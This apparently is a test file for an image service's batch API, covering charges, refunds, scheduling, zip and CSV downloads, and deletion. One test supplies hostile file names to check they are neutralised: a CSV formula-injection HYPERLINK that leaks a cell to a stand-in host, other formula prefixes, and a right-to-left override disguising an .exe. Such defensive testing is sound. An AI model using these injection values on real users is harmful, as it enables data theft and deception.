// Batches (issue 40, decision 062): each image of a batch is its own job, charged and refunded on
// its own; a refusal charges nothing; batch images have a cap of their own; another user's call is
// not starved by a batch; the zip holds the results named after their inputs (a CSV for the Image
// Analyzer); a batch is deleted with its images once none runs. Runs on both databases.
import { unzipSync } from 'fflate';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { BATCH_MESSAGES, type Batch, type BatchImageQueued, MAX_BATCH_IMAGES } from '../../src/contract/batches';
import type { CreationList } from '../../src/contract/creations';
import { TOOL_MESSAGES } from '../../src/contract/tools';
import { type InferenceProvider, ProviderError, type ToolResult } from '../../src/server/inference/provider';
import { findLedgerMismatches } from '../../src/server/ledger/ledger';
import type { TestClient } from '../support/http-client';
import { createTestBackend, type TestBackend } from '../support/test-backend';
import { dataUrl, instantProvider, pngBytes, routerWith, tokensOf, verifiedUser } from '../support/tool-fixtures';

const NO_SUBJECT = 'No subject found in this image.';

/**
 * Answers like the instant provider, fails an image 13 px wide as a cut-out finds no subject, and
 * while `gate` is closed holds every run until it opens (runs started are counted in `started`).
 */
function gatedProvider() {
  const instant = instantProvider();
  let open: () => void = () => {};
  let gate: Promise<void> = Promise.resolve();
  const provider: InferenceProvider & { started: string[]; close(): void; open(): void } = {
    ...instant,
    started: [],
    close() {
      gate = new Promise((resolve) => {
        open = resolve;
      });
    },
    open: () => open(),
    async run(input, signal): Promise<ToolResult> {
      provider.started.push(String(input.image?.width ?? ''));
      await gate;
      if (input.image?.width === 13) throw new ProviderError('no subject', { userMessage: NO_SUBJECT });
      return instant.run(input, signal);
    },
  };
  return provider;
}

const provider = gatedProvider();
let backend: TestBackend;
beforeAll(async () => {
  backend = await createTestBackend({
    env: { MAX_ACTIVE_JOBS_PER_USER: '2', WORKER_CONCURRENCY: '1' },
    inference: routerWith(provider),
  });
});
afterAll(() => backend.stop());
afterEach(async () => {
  provider.open();
  expect(await findLedgerMismatches(backend.database.db)).toEqual([]);
});

const image = async (width = 32) => dataUrl(await pngBytes(width, 24));

const createBatch = (client: TestClient, tool: string, size: number) =>
  client.post<Batch & { error?: string; balance?: number }>('/api/batches', { tool, size });

const sendImage = (client: TestClient, batchId: string, body: Record<string, unknown>) =>
  client.post<BatchImageQueued & { success?: false; error?: string; balance?: number }>(
    `/api/batches/${batchId}/images`,
    body,
  );

const readBatch = async (client: TestClient, id: string) => (await client.get<Batch>(`/api/batches/${id}`)).body;

async function untilEnded(client: TestClient, id: string): Promise<Batch> {
  await expect
    .poll(
      async () => {
        const batch = await readBatch(client, id);
        return batch.counts.waiting + batch.counts.running === 0 && batch.items.length > 0;
      },
      { timeout: 30_000 },
    )
    .toBe(true);
  return readBatch(client, id);
}

/** The price of one Background Remover image here (the local provider's price). */
async function pricePerImage(client: TestClient) {
  const batch = await createBatch(client, 'background-remover', 1);
  return batch.body.price;
}

describe('a batch', () => {
  it('charges each image on its own, refunds the one that failed with its reason, and balances the ledger', async () => {
    const { client } = await verifiedUser(backend, 40);
    const price = await pricePerImage(client);
    expect(price).toBeGreaterThan(0);
    const created = await createBatch(client, 'background-remover', 3);
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ tool: 'background-remover', size: 3, items: [], price });

    const names = ['IMG_0412.jpg', 'bad subject.png', 'IMG_0413.jpeg'];
    const widths = [32, 13, 40];
    for (const [item, name] of names.entries()) {
      const answer = await sendImage(client, created.body.id, { image: await image(widths[item]), item, name });
      expect(answer.status).toBe(202);
      // The balance after this image (a failed one may have been refunded already).
      expect(answer.body).toMatchObject({ item, charged: price, balance: expect.any(Number) });
    }
    const ended = await untilEnded(client, created.body.id);
    expect(ended.counts).toEqual({ waiting: 0, running: 0, done: 2, failed: 1 });
    expect(ended.items.map((i) => [i.batch?.name, i.status, i.error])).toEqual([
      ['IMG_0412.jpg', 'succeeded', null],
      ['bad subject.png', 'failed', NO_SUBJECT],
      ['IMG_0413.jpeg', 'succeeded', null],
    ]);
    expect(ended.items.map((i) => [i.charged, i.refunded])).toEqual([
      [price, 0],
      [price, price],
      [price, 0],
    ]);
    expect(ended).toMatchObject({ charged: 3 * price, refunded: price });
    expect(ended.items[0]?.resultName).toBe('IMG_0412-background-removed.png');
    expect(await tokensOf(client)).toBe(40 - 2 * price);
  });

  it('answers an item sent again with its first job, charged once', async () => {
    const { client } = await verifiedUser(backend, 20);
    const batch = (await createBatch(client, 'background-remover', 2)).body;
    const body = { image: await image(), item: 0, name: 'a.png' };
    const first = await sendImage(client, batch.id, body);
    const again = await sendImage(client, batch.id, body);
    expect(again.status).toBe(202);
    expect(again.body.jobId).toBe(first.body.jobId);
    await untilEnded(client, batch.id);
    expect(await tokensOf(client)).toBe(20 - batch.price);
  });

  it('refuses bad input with a clear sentence and charges nothing for it', async () => {
    const { client } = await verifiedUser(backend, 20);
    expect((await createBatch(client, 'text-to-pic', 2)).body.error).toBe(BATCH_MESSAGES.notBatchTool);
    expect((await createBatch(client, 'colorizer', MAX_BATCH_IMAGES + 1)).body.error).toBe(BATCH_MESSAGES.size);
    expect((await createBatch(client, 'colorizer', 0)).status).toBe(400);
    const batch = (await createBatch(client, 'colorizer', 2)).body;

    const notAnImage = await sendImage(client, batch.id, {
      image: `data:image/png;base64,${Buffer.from('not a png at all').toString('base64')}`,
      item: 0,
      name: 'fake.png',
    });
    expect(notAnImage.status).toBe(400);
    expect(notAnImage.body.error).toBeTruthy();
    const outOfRange = await sendImage(client, batch.id, { image: await image(), item: 2, name: 'a.png' });
    expect(outOfRange.body.error).toBe(BATCH_MESSAGES.item(2));
    const noName = await sendImage(client, batch.id, { image: await image(), item: 0 });
    expect(noName.body.error).toBe(BATCH_MESSAGES.name);

    const other = await verifiedUser(backend, 20);
    const notTheirs = await sendImage(other.client, batch.id, { image: await image(), item: 0, name: 'a.png' });
    expect(notTheirs.status).toBe(404);
    expect((await other.client.get(`/api/batches/${batch.id}`)).status).toBe(404);
    expect((await client.get('/api/batches/not-a-uuid')).status).toBe(404);

    expect(await tokensOf(client)).toBe(20);
    expect(await tokensOf(other.client)).toBe(20);
    expect((await readBatch(client, batch.id)).items).toEqual([]);
  });

  it('charges the images the balance covers and refuses the next with the balance, nothing taken', async () => {
    const { client } = await verifiedUser(backend, 20);
    const price = await pricePerImage(client);
    const { client: poor } = await verifiedUser(backend, price * 2);
    const batch = (await createBatch(poor, 'background-remover', 3)).body;
    for (const item of [0, 1]) {
      expect((await sendImage(poor, batch.id, { image: await image(), item, name: `${item}.png` })).status).toBe(202);
    }
    const third = await sendImage(poor, batch.id, { image: await image(), item: 2, name: '2.png' });
    expect(third.status).toBe(402);
    expect(third.body).toMatchObject({ error: TOOL_MESSAGES.notEnoughTokens, balance: 0 });
    expect((await untilEnded(poor, batch.id)).items).toHaveLength(2);
    expect(await tokensOf(poor)).toBe(0);
    // Nothing left for even one image: the batch is refused when it is made.
    const refused = await createBatch(poor, 'background-remover', 1);
    expect(refused.status).toBe(402);
  });

  it('is not refused by the cap on single calls, and leaves that cap to them', async () => {
    provider.close();
    const { client } = await verifiedUser(backend, 100);
    const batch = (await createBatch(client, 'background-remover', 5)).body;
    for (let item = 0; item < 5; item++) {
      const answer = await sendImage(client, batch.id, { image: await image(), item, name: `${item}.png` });
      expect(answer.status).toBe(202);
    }
    // Five batch images wait or run, past the cap of 2 single calls; a single call still goes in.
    const single = await client.request<{ jobId: string }>('POST', '/api/remove-background', {
      body: { image: await image() },
      headers: { prefer: 'wait=0' },
    });
    expect(single.status).toBe(202);
    provider.open();
    await untilEnded(client, batch.id);
    // Its single call ends too, so that it cannot start during the next test.
    await expect
      .poll(async () => (await client.get<{ status: string }>(`/api/jobs/${single.body.jobId}`)).body.status)
      .toBe('succeeded');
  });

  it("lets another user's call run after at most the job running when it came", async () => {
    provider.close();
    provider.started.length = 0;
    const { client: owner } = await verifiedUser(backend, 200);
    const { client: other } = await verifiedUser(backend, 20);
    const batch = (await createBatch(owner, 'background-remover', MAX_BATCH_IMAGES)).body;
    for (let item = 0; item < MAX_BATCH_IMAGES; item++) {
      const answer = await sendImage(owner, batch.id, {
        image: await image(20 + (item % 5)),
        item,
        name: `${item}.png`,
      });
      expect(answer.status).toBe(202);
    }
    // One slot: the batch's first image runs (held at the gate), 49 wait.
    await expect.poll(() => provider.started.length).toBe(1);
    const single = await other.request<{ jobId: string }>('POST', '/api/remove-background', {
      body: { image: await image(64) },
      headers: { prefer: 'wait=0' },
    });
    expect(single.status).toBe(202);
    provider.open();
    await expect
      .poll(async () => (await other.get<{ status: string }>(`/api/jobs/${single.body.jobId}`)).body.status, {
        timeout: 30_000,
      })
      .toBe('succeeded');
    // The other user's image (64 px) ran second: after the one batch image that held the slot.
    expect(provider.started.indexOf('64')).toBe(1);
    await untilEnded(owner, batch.id);
  }, 60_000);

  it('downloads its results in a zip named after the inputs, and an analysis as a CSV', async () => {
    const { client } = await verifiedUser(backend, 40);
    const cutouts = (await createBatch(client, 'background-remover', 3)).body;
    const names = ['IMG_0412.jpg', 'IMG_0412.png', 'no subject.png'];
    for (const [item, name] of names.entries()) {
      await sendImage(client, cutouts.id, { image: await image(item === 2 ? 13 : 30), item, name });
    }
    await untilEnded(client, cutouts.id);
    const zip = await client.fetchRaw(`/api/batches/${cutouts.id}/download`);
    expect(zip.status).toBe(200);
    expect(zip.headers.get('content-type')).toBe('application/zip');
    const entries = unzipSync(new Uint8Array(await zip.arrayBuffer()));
    // The instant provider answers WebP: the entry says so; the failed image has none (README.txt
    // says why: batch-readme.test.ts).
    expect(Object.keys(entries).sort()).toEqual([
      'IMG_0412-background-removed (2).webp',
      'IMG_0412-background-removed.webp',
      'README.txt',
    ]);

    const analyses = (await createBatch(client, 'image-analyzer', 2)).body;
    for (const [item, name] of ['beach, "day".jpg', 'b.png'].entries()) {
      await sendImage(client, analyses.id, { image: await image(), item, name });
    }
    await untilEnded(client, analyses.id);
    const csvZip = unzipSync(
      new Uint8Array(await (await client.fetchRaw(`/api/batches/${analyses.id}/download`)).arrayBuffer()),
    );
    expect(Object.keys(csvZip)).toEqual(['keywords.csv', 'README.txt']);
    expect(Buffer.from(csvZip['keywords.csv'] as Uint8Array).toString()).toBe(
      'Filename,Keywords,Colors\r\n"beach, ""day"".jpg",test,\r\nb.png,test,\r\n',
    );
  });

  it('names zip entries safe to unzip and writes no CSV cell a spreadsheet runs (issue 53 items 5 and 9)', async () => {
    const { client } = await verifiedUser(backend, 100);
    const names = [
      'a\r\n\tb.jpg', // line breaks and a tab inside
      'photo\u202egnp.exe.jpg', // the right-to-left override that shows "photoexe.png"
      'C:evil-name.jpg', // a drive prefix
      '.hidden.jpg',
      'caf\u00e9.jpg', // NFC, then NFD: one name on a Mac
      'cafe\u0301.jpg',
    ];
    const cutouts = (await createBatch(client, 'background-remover', names.length)).body;
    for (const [item, name] of names.entries()) {
      expect((await sendImage(client, cutouts.id, { image: await image(), item, name })).status).toBe(202);
    }
    await untilEnded(client, cutouts.id);
    const zip = unzipSync(
      new Uint8Array(await (await client.fetchRaw(`/api/batches/${cutouts.id}/download`)).arrayBuffer()),
    );
    expect(Object.keys(zip).sort()).toEqual(
      [
        'ab-background-removed.webp',
        'photognp.exe-background-removed.webp',
        'Cevil-name-background-removed.webp',
        'hidden-background-removed.webp',
        'caf\u00e9-background-removed.webp',
        'caf\u00e9-background-removed (2).webp',
        'README.txt',
      ].sort(),
    );

    const formulas = [
      '=HYPERLINK("http://x.example/?leak="&A1,"click").png',
      '+1+2.png',
      '-1+2.png',
      '@SUM(A1).png',
      '\t=1+2.png', // a spreadsheet trims the tab and reads the formula; the name is stored trimmed
    ];
    const analyses = (await createBatch(client, 'image-analyzer', formulas.length)).body;
    for (const [item, name] of formulas.entries()) {
      expect((await sendImage(client, analyses.id, { image: await image(), item, name })).status).toBe(202);
    }
    await untilEnded(client, analyses.id);
    const csvZip = unzipSync(
      new Uint8Array(await (await client.fetchRaw(`/api/batches/${analyses.id}/download`)).arrayBuffer()),
    );
    expect(Buffer.from(csvZip['keywords.csv'] as Uint8Array).toString()).toBe(
      [
        'Filename,Keywords,Colors',
        `"'=HYPERLINK(""http://x.example/?leak=""&A1,""click"").png",test,`,
        "'+1+2.png,test,",
        "'-1+2.png,test,",
        "'@SUM(A1).png,test,",
        "'=1+2.png,test,",
        '',
      ].join('\r\n'),
    );
  });

  it('shows in My Creations as its images, and is deleted with them once none runs', async () => {
    const { client } = await verifiedUser(backend, 40);
    provider.close();
    const batch = (await createBatch(client, 'colorizer', 2)).body;
    for (const item of [0, 1])
      await sendImage(client, batch.id, { image: await image(), item, name: `old-${item}.jpg` });
    const running = await client.request<{ error: string }>('DELETE', `/api/batches/${batch.id}`);
    expect(running.status).toBe(409);
    expect(running.body.error).toBe(BATCH_MESSAGES.stillRunning);
    provider.open();
    await untilEnded(client, batch.id);

    const listed = (await client.get<CreationList>('/api/creations')).body.creations;
    expect(listed.map((c) => c.batch)).toEqual([
      { id: batch.id, item: 1, name: 'old-1.jpg', images: 2 },
      { id: batch.id, item: 0, name: 'old-0.jpg', images: 2 },
    ]);
    const fileUrl = listed[0]?.outputs[0]?.url as string;
    expect((await client.fetchRaw(fileUrl)).status).toBe(200);

    expect((await client.request('DELETE', `/api/batches/${batch.id}`)).status).toBe(204);
    expect((await client.get<CreationList>('/api/creations')).body.creations).toEqual([]);
    expect((await client.fetchRaw(fileUrl)).status).toBe(404);
    expect((await client.get(`/api/batches/${batch.id}`)).status).toBe(404);
    expect((await client.request('DELETE', `/api/batches/${batch.id}`)).status).toBe(404);
  });

  it('is made, fed and read with an API key, which cannot delete it', async () => {
    const { client } = await verifiedUser(backend, 20);
    const { key } = (await client.post<{ key: string }>('/api/keys', { name: 'batch script' })).body;
    const withKey = (method: string, path: string, body?: unknown) =>
      client.request<Batch & { error?: string }>(method, path, { body, headers: { authorization: `Bearer ${key}` } });
    const batch = await withKey('POST', '/api/batches', { tool: 'image-analyzer', size: 1 });
    expect(batch.status).toBe(201);
    expect(batch.headers.get('ratelimit-limit')).toBeTruthy();
    const sent = await withKey('POST', `/api/batches/${batch.body.id}/images`, {
      image: await image(),
      item: 0,
      name: 'scan.png',
    });
    expect(sent.status).toBe(202);
    await untilEnded(client, batch.body.id);
    expect((await withKey('GET', `/api/batches/${batch.body.id}`)).body.counts.done).toBe(1);
    expect((await withKey('DELETE', `/api/batches/${batch.body.id}`)).status).toBe(403);
  });
});
